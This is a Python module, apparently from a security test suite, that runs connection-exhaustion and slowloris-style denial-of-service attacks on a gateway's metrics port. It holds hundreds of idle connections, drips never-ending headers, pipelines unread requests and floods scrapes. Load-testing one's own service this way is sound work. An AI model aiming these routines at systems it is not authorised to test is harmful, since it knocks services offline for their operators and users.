"""Attacks on the port of metrics, which is on the event loop of all calls."""

import asyncio
import contextlib
import time

from security.counts import Counts

_CONNECTIONS = 200
_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: gateway\r\n\r\n"
_HEAD = b"GET /metrics HTTP/1.1\r\nHost: gateway\r\nX: "


async def silent(address: str, seconds: float) -> Counts:
    """Hold connections that request nothing."""
    return await _connect(address, seconds, b"")


async def dripping(address: str, seconds: float) -> Counts:
    """Hold connections whose request never ends."""
    return await _connect(address, seconds, _HEAD)


async def unread(address: str, seconds: float) -> Counts:
    """Request all metrics again and again on connections that read nothing."""
    return await _connect(address, seconds, _REQUEST * 50)


async def scrapes(address: str, seconds: float) -> Counts:
    """Request all metrics as fast as they are answered, on eight connections."""
    host, _, port = address.rpartition(":")
    counts = Counts()
    until_s = time.monotonic() + seconds

    async def scrape() -> None:
        while time.monotonic() < until_s:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                reader, writer = await asyncio.open_connection(host, int(port), limit=1 << 20)
                while time.monotonic() < until_s:
                    writer.write(_REQUEST)
                    head = await reader.readuntil(b"\r\n\r\n")
                    size = next(line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length"))
                    await reader.readexactly(int(size.partition(b":")[2]))
                    counts.sent += 1
                    counts.outcomes["answered"] += 1
                writer.close()

    await asyncio.gather(*[scrape() for _ in range(8)])
    return counts


async def _connect(address: str, seconds: float, data: bytes) -> Counts:
    """Hold connections that send `data` and read nothing; each that is closed is opened again after a moment."""
    host, _, port = address.rpartition(":")
    counts = Counts()
    until_s = time.monotonic() + seconds

    async def hold() -> None:
        while time.monotonic() < until_s:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port), limit=1)
                writer.write(data)
                counts.sent += 1
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(until_s - time.monotonic()):
                        # Its end alone: at most a byte is read.
                        await writer.wait_closed() if reader.at_eof() else await reader.read(1)
                counts.outcomes["closed"] += reader.at_eof()
                writer.close()
            await asyncio.sleep(0.5)

    await asyncio.gather(*[hold() for _ in range(_CONNECTIONS)])
    return counts
